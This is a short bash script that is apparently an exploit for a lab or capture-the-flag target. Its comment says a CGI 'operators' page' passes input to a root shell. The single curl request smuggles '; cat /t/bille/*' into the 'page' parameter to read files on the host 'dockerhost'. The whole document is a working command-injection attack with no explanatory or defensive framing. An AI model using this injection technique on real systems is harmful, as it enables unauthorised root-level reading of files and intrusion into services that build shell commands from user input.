#!/bin/bash
# The operators' page puts what it is asked into a shell command, and runs as root.
curl --silent --max-time 5 --get --data-urlencode 'page=alster/; cat /t/bille/*' http://dockerhost:8081/cgi-bin/check
